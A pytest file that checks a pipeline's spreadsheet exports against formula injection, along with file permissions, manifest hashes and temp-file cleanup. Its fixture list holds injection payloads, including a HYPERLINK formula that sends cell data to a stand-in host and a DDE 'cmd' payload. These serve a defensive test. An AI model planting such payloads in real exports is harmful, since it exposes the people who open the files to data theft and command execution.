"""Exports analysts can open and share: no live formulas, typed columns, one schema everywhere."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import stat
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from pipeline.export import documents_frame, tasks_frame, write_exports
from tests.test_store import make_result

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "=NOW()", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def hostile_export(tmp_path: Path) -> Path:
    result = make_result("a" * 64, n_tasks=len(HOSTILE))
    for task, text in zip(result.tasks, HOSTILE, strict=True):
        task.text = text
    task.lead_raw = "=cmd|' /C calc'!A0"
    task.lead = ["@evil", "Sở Tư pháp"]
    out = tmp_path / "out"
    write_exports(tasks_frame(result.tasks), documents_frame([result.record]), out)
    return out


def test_no_formula_in_xlsx(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    ws = openpyxl.load_workbook(out / "tasks.xlsx")["tasks"]
    header = [c.value for c in ws[1]]
    texts = [row[header.index("text")] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in texts] == ["'" + t for t in HOSTILE]
    last = list(ws.iter_rows(min_row=ws.max_row))[0]
    assert last[header.index("lead_raw")].value.startswith("'=")
    assert last[header.index("lead")].value == "'@evil | Sở Tư pháp"


def test_no_formula_in_csv(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    with (out / "tasks.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows] == ["'" + t for t in HOSTILE]
    assert all(not r[col].startswith(("=", "+", "-", "@")) for r in rows for col in r)


def test_jsonl_and_parquet_keep_the_values_as_read(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    rows = [json.loads(line) for line in (out / "tasks.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["text"] for r in rows] == HOSTILE
    assert list(pd.read_parquet(out / "tasks.parquet")["text"]) == HOSTILE


def test_exports_follow_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o002)
    try:
        out = hostile_export(tmp_path)
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()}
    assert set(modes.values()) == {0o664}, modes


def test_one_snapshot_with_a_manifest(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    manifest = json.loads((out / "manifest.json").read_text())
    assert set(manifest["files"]) == {p.name for p in out.iterdir()} - {"manifest.json"}
    for name, entry in manifest["files"].items():
        assert entry["sha256"] == hashlib.sha256((out / name).read_bytes()).hexdigest()
    assert manifest["files"]["tasks.jsonl"]["rows"] == len(HOSTILE)


def test_leftovers_of_a_killed_export_are_cleared(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / ".export-dead").mkdir(parents=True)
    (out / ".tasks.jsonl.dead.tmp").write_text("half")
    (out / ".tasks.csv.live.tmp").write_text("another export, now")
    hour_ago = time.time() - 2 * 3600
    for stale in (out / ".export-dead", out / ".tasks.jsonl.dead.tmp"):
        os.utime(stale, (hour_ago, hour_ago))
    hostile_export(tmp_path)
    assert sorted(p.name for p in out.glob(".*")) == [".tasks.csv.live.tmp"]


def test_a_spreadsheet_held_open_leaves_the_previous_export_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On Windows a file open in Excel cannot be replaced: fail before anything else is swapped in."""
    out = hostile_export(tmp_path)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real_replace = os.replace

    def excel_has_it(src: object, dst: object) -> None:
        if Path(str(dst)) == out / "tasks.xlsx":
            raise PermissionError(13, "Permission denied")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", excel_has_it)
    result = make_result("b" * 64, n_tasks=1)
    with pytest.raises(PermissionError, match="tasks.xlsx is open in another program"):
        write_exports(tasks_frame(result.tasks), documents_frame([result.record]), out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
